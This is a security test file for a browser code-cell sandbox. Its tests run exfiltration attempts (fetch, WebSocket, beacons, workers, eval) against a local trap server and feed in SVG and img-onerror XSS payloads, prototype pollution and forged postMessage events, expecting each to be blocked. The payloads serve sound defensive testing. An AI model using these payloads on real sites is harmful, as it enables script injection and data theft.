import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { siteUrl } from './browser.ts'
import { CellOnPage, useCell } from './cell.ts'
import { leastOf, watchMainThread } from './mainThread.ts'

// A reader's code, or a link's, tries to get out. A second server hears what comes through.
const { open, openCell } = useCell()

let server: Server
let trap: string
const caught: string[] = []
beforeAll(async () => {
  server = createServer((request, response) => {
    caught.push(request.url!)
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('export {}')
  }).listen(0)
  server.on('upgrade', (request, socket) => {
    caught.push(request.url!)
    socket.destroy()
  })
  await once(server, 'listening')
  trap = `http://localhost:${(server.address() as AddressInfo).port}`
})
afterAll(() => server.close())
beforeEach(() => caught.splice(0))

/** What came through with "leak" in its address; a request that the policy stops has no answer. */
function listen(page: Page): string[] {
  const answered: string[] = []
  page.on('response', (response) => response.url().includes('leak') && answered.push(response.url()))
  return answered
}

/** Runs the code, and holds that the page is as it was. */
async function attack(code: string) {
  const cell = await openCell()
  const answered = listen(cell.page)
  await cell.page.evaluate(() => Object.assign(window, { mine: 'untouched' }))
  const status = await cell.runCode(code)
  await cell.page.waitForTimeout(300)
  expect(await cell.page.evaluate(() => Reflect.get(window, 'mine'))).toBe('untouched')
  return { cell, status, leaks: [...caught, ...answered.filter((url) => !url.startsWith('data:'))] }
}

/** Tries all in one run, each by itself. Names those that were not refused. */
async function reached(
  attempts: Readonly<Record<string, string>>,
): Promise<{ through: string[]; leaks: string[] }> {
  const tries = Object.entries(attempts).map(
    ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} })`,
  )
  const { cell, status, leaks } = await attack(`const wait = setTimeout
async function attempt(name, act) {
  const late = new Promise((_, no) => wait(() => no(new Error('no answer')), 1500))
  try { await Promise.race([act(), late]); console.log('THROUGH', name) } catch (error) { console.log('refused', name, String(error).split('\\n')[0]) }
}
${tries.join('\n')}`)
  expect(status).toMatch(/^Done/)
  const lines = (await cell.output()).split('\n')
  expect(lines).toHaveLength(tries.length)
  return { through: lines.filter((line) => !line.startsWith('refused')), leaks }
}

test('no way to any network', async () => {
  const to = trap
  const { through, leaks } = await reached({
    fetch: `await fetch('${to}/leak')`,
    'fetch of its own site': `await fetch('${siteUrl}leak')`,
    'no-cors': `await fetch('${to}/leak', { mode: 'no-cors' })`,
    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', '${to}/leak', false); x.send()`,
    WebSocket: `await new Promise((ok, no) => { const s = new WebSocket('${to.replace('http', 'ws')}/leak'); s.onopen = ok; s.onerror = no })`,
    EventSource: `await new Promise((ok, no) => { const s = new EventSource('${to}/leak'); s.onopen = ok; s.onerror = no })`,
    import: `const a = '${to}/leak.mjs'; await import(a)`,
    'import of its own site': `const a = '${siteUrl}cells/any.mjs?leak=1'; await import(a)`,
    'import from the library, with a query': `const a = '${siteUrl}cells/norm-cell.js?leak=1'; await import(a)`,
    importScripts: `importScripts('${to}/leak.js')`,
    sendBeacon: `if (!navigator.sendBeacon('${to}/leak', 'x')) throw new Error('false')`,
    'a font': `await new FontFace('x', 'url(${to}/leak.woff2)').load()`,
    WebTransport: `await new WebTransport('${to.replace('http', 'https')}/leak').ready`,
    WebRTC: `await new RTCPeerConnection({ iceServers: [{ urls: 'stun:localhost' }] }).createOffer()`,
    'a worker of its own': `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/leak')"])))`,
    'a worker from the prototype': `new (Object.getPrototypeOf(globalThis).Worker)('data:,')`,
    SharedWorker: `new SharedWorker('${to}/leak.js')`,
    'a module in a blob': `const a = URL.createObjectURL(new Blob(["import '${to}/leak.mjs'"], { type: 'text/javascript' })); await import(a)`,
    eval: `(0, eval)("fetch('${to}/leak')")`,
    Function: `new Function("fetch('${to}/leak')")()`,
    fetchLater: `fetchLater('${to}/leak')`,
    'a string for setTimeout': `setTimeout("fetch('${to}/leak')"); await new Promise((done) => setTimeout(done, 200)); throw new Error('not run')`,
  })
  expect(leaks).toEqual([])
  expect(through).toEqual([])
  await fetch(`${trap}/leak`)
  expect(caught, 'the trap hears').toEqual(['/leak'])
})

describe('the page, its storage and other cells', () => {
  test('none of it is there', async () => {
    const { through } = await reached(
      Object.fromEntries(
        [
          'document.title',
          'window.name',
          'parent.location',
          'top.location = "/leak"; top.x',
          'opener.name',
          'localStorage.x',
          'sessionStorage.x',
          "indexedDB.open('x')",
          "await caches.open('x')",
          'await navigator.storage.getDirectory()',
          "await cookieStore.get('x')",
          "await navigator.serviceWorker.register('/x.js')",
          "new BroadcastChannel('x').postMessage(1)",
          "postMessage({ type: 'done' })",
          "self.postMessage('x')",
          "Object.getPrototypeOf(globalThis).postMessage.call(globalThis, 'x')",
          "Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).postMessage.call(globalThis, 'x')",
          'close()',
          "await navigator.locks.request('x', () => 1)",
          'await Notification.requestPermission()',
          "await navigator.clipboard.writeText('x')",
        ].map((code) => [code, code]),
      ),
    )
    expect(through).toEqual([])
  })

  test('the worker knows nothing of the page but its own code', async () => {
    const { cell, status } = await attack('console.log(self.origin, typeof document, location.protocol)')
    expect(status).toMatch(/^Done/)
    expect(await cell.output()).toBe('null undefined blob:')
  })

  test('messages from elsewhere change nothing', async () => {
    const cell = await openCell()
    await cell.write('console.log("begun")\nawait new Promise(() => {})')
    await cell.press('run')
    await cell.said('begun')
    const forged = [
      { type: 'done', values: '{"forged":1}', seconds: 1 },
      { type: 'events', events: [{ type: 'log', level: 'log', text: 'forged' }] },
      { type: 'ready' },
      'open',
    ]
    await cell.page.evaluate(async (messages) => {
      const frame = document.createElement('iframe')
      frame.setAttribute('sandbox', 'allow-scripts')
      document.body.append(frame)
      for (const message of messages) {
        window.postMessage(message, '*', [new MessageChannel().port1])
        for (let i = 0; i < frames.length; i++)
          frames[i]!.postMessage(message, '*', [new MessageChannel().port2])
      }
      await new Promise((done) => setTimeout(done, 300))
    }, forged)
    expect(await cell.output()).not.toContain('forged')
    expect(await cell.status()).toBe('Running …')
  })

  test('the sandbox’s page, opened by itself or by another, does nothing', async () => {
    const cell = await openCell()
    await cell.run()
    const runner = await cell.page.locator('#shift-workedTable > iframe').getAttribute('src')
    const page = await open('/shift/')
    const heard = await page.evaluate(async (src) => {
      const frame = document.createElement('iframe') // no sandbox: it would have the site's origin
      frame.src = src!
      document.body.append(frame)
      await new Promise((done) => frame.addEventListener('load', done))
      const { port1, port2 } = new MessageChannel()
      let count = 0
      port1.addEventListener('message', () => count++)
      port1.start()
      frame.contentWindow!.postMessage('open', '*', [port2])
      await new Promise((done) => setTimeout(done, 300))
      return count
    }, runner)
    expect(heard).toBe(0)
  })

  test('the frame is of opaque origin, may run scripts and nothing else, and its policy names no host', async () => {
    const cell = await openCell()
    await cell.run()
    const frame = cell.page.locator('#shift-workedTable > iframe')
    expect(await frame.getAttribute('sandbox')).toBe('allow-scripts')
    const policy = await cell.page
      .frameLocator('#shift-workedTable > iframe')
      .locator('meta[http-equiv]')
      .getAttribute('content')
    expect(policy).toContain("default-src 'none'")
    expect(policy).not.toMatch(/'self'|https?:|\*|unsafe-inline|'unsafe-eval'/)
  })
})

describe('what it shows', () => {
  const svgs = (to: string): string[] => [
    `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.mine='taken';top.mine='taken'"><title>a</title></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><title>b</title><script>parent.mine='taken';fetch('${to}/leak')</script></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><title>c</title><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${to}/leak"/></foreignObject></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><title>d</title><image href="${to}/leak.png"/><use xlink:href="${to}/leak.svg#a"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><title>e</title><style>@import url(${to}/leak.css); rect { fill: url(${to}/leak.svg#a) }</style><rect width="9" height="9"/></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><title>f</title><a href="javascript:parent.mine='taken'"><rect width="90" height="90"/></a></svg>`,
    `<svg xmlns="http://www.w3.org/2000/svg" x='"><img src=x onerror=mine="taken">'><title>g"&gt;&lt;img src=x onerror=mine="taken"&gt;</title></svg>`,
    `<svg><img src=x onerror="mine='taken'">`,
    `<svg xmlns="http://www.w3.org/2000/svg" style="position:fixed;inset:0"><title>h</title></svg>`,
  ]

  test('an SVG is an image: no script, no load, nothing over the page', async () => {
    const code = `import { show } from '@normlab/cell'\nfor (const svg of ${JSON.stringify(svgs(trap))}) show(svg, '<img src=x onerror=mine="taken">')`
    const { cell, status, leaks } = await attack(code)
    expect(status).toMatch(/^Done/)
    expect(leaks).toEqual([])
    const box = cell.root.locator('.cell-output')
    expect(await box.locator('img[data-cell-svg]').count()).toBe(7)
    expect(
      await box.locator('svg, script, iframe, img:not([data-cell-svg]), [onload], [onerror]').count(),
    ).toBe(0)
    expect(await box.innerText()).toContain('no valid SVG')
    for (const image of await box.locator('img:visible').all()) await image.click({ force: true })
    expect(await cell.page.evaluate(() => Reflect.get(window, 'mine'))).toBe('untouched')
  })

  test('words are words: in logs, tables, captions, charts, parameters, claims, results and errors', async () => {
    const bad = '<img src=x onerror="mine=\'taken\'">"\'><script>mine=1</script>'
    const { cell, leaks } = await attack(`import { assert, chart, param, table } from '@normlab/cell'
const bad = ${JSON.stringify(bad)}
console.log(bad); console.error(bad)
table([{ [bad]: bad }], { caption: bad }); assert(true, bad)
chart(bad, { x: bad, y: bad }).add(1, { [bad]: 2 })
param('p', bad, { choices: [bad], label: bad }); param('n', 1, { min: 0, max: 2, label: bad })
export const result = { [bad]: bad }
const error = new Error(bad); error.name = bad; throw error`)
    expect(leaks).toEqual([])
    expect(await cell.root.locator('.cell-output img, .cell-output script, .cell-params img').count()).toBe(0)
    expect(await cell.output()).toContain('<img src=x')
  })

  test('forged events are not shown', async () => {
    const { cell } = await attack(`const { emit } = (globalThis as any)[Symbol.for('@normlab/cell')]
for (const event of [null, 5, {}, { type: 'constructor' }, { type: '__proto__' }, { type: 'log', level: '"><b id=forged>', text: 'forged' },
  { type: 'log', level: 'log', text: { toString: 1 } }, { type: 'figure', svg: 'x', narrow: [] }, { type: 'table', rows: [[{}]] },
  { type: 'point', chart: 'x', x: 'y', y: {} }, { type: 'chart', chart: 'c', options: { tones: { a: 'red" onload="' } } },
  { type: 'param', param: { name: 'x" autofocus onfocus="mine=1', label: 'forged', initial: 1, min: 0, max: 2 } }]) try { emit(event) } catch {}
console.log('sound')`)
    expect(await cell.output()).toBe('sound')
    expect(await cell.root.locator('#forged, [onfocus]').count()).toBe(0)
    expect(cell.page.errors).toEqual([])
  })
})

describe('what it breaks is its own', () => {
  test('prototype pollution: this run, and no other', async () => {
    const { cell } =
      await attack(`for (const proto of [Object, Array, String, Function, Promise, Map, RegExp, Error].map((c: any) => c.prototype))
  for (const name of Object.getOwnPropertyNames(proto)) try { Object.defineProperty(proto, name, { get() { throw new Error('polluted ' + name) }, set() {}, configurable: true }) } catch {}
Object.defineProperty(Object.prototype, 'type', { value: 'done' })
Object.defineProperty(Object.prototype, 'place', { value: { line: 1, column: '<b>' } })
JSON.stringify = () => 'x'
throw 1`).catch(async (error: Error) => {
        // It may have broken its own way to say that it failed; then it is silent, and can be stopped.
        expect(error.message).toContain('Timeout')
        return { cell: undefined }
      })
    if (!cell) return
    expect(await cell.runCode('console.log([1, 2].map((x) => x * 2), "after")')).toMatch(/^Done/)
    expect(await cell.output()).toBe('[2, 4] after')
    const other = new CellOnPage(cell.page, 'shift-watch')
    expect(await other.run()).toMatch(/^Done/)
    expect(await cell.page.evaluate(() => ({}) as { type?: string }).then(({ type }) => type)).toBeUndefined()
  })

  test('200 MB, and then some: the page lives, and the next run too', async () => {
    const { cell, status } = await attack(`const kept: Uint8Array[] = []
for (let i = 0; i < 20; i++) kept.push(new Uint8Array(10_000_000).fill(i))
console.log(kept.length, kept.reduce((sum, { length }) => sum + length, 0))`)
    expect(status).toMatch(/^Done/)
    expect(await cell.output()).toBe('20 200000000')
    expect(await cell.runCode('new Uint8Array(1e15)')).toMatch(/^Failed/)
    expect(await cell.runCode('console.log("alive")')).toMatch(/^Done/)
  })

  test('a flood of output: the page stays quick, holds no more than it can show, and Stop stops', async () => {
    const cell = await openCell()
    await cell.write('for (let i = 0; ; i++) console.log("flood", i, "x".repeat(200))')
    const longest = await leastOf(100, async () => {
      const ended = await watchMainThread(cell.page)
      await cell.press('run')
      await cell.said('flood 999')
      await cell.page.waitForTimeout(1000)
      await cell.press('stop')
      expect(await cell.status()).toBe('Stopped.')
      expect(await cell.root.locator('.cell-output > *').count()).toBeLessThanOrEqual(1002)
      return (await ended()).longest
    })
    console.log(`flood: the main thread had at most ${longest.toFixed(0)} ms of work at once`)
    expect(longest).toBeLessThan(100)
    expect(await cell.runCode('console.log("dry")')).toMatch(/^Done/)
    expect(await cell.output()).toBe('dry')
  })

  test('a flood that ends says how much was left out', async () => {
    const cell = await openCell()
    expect(await cell.runCode('for (let i = 0; i < 50_000; i++) console.log(i)')).toMatch(/^Done/)
    await expect.poll(() => cell.output()).toContain('49000 more outputs were left out')
  })

  test('a worker that is busy is gone as soon as Stop is pressed', async () => {
    const cell = await openCell()
    await cell.write('console.log("begun")\nfor (;;);')
    await cell.press('run')
    await cell.said('begun')
    await expect.poll(() => cell.page.workers().length).toBe(1)
    await cell.press('stop')
    expect(await cell.page.locator('iframe').count()).toBe(0)
    await expect.poll(() => cell.page.workers().length).toBe(0)
  })
})
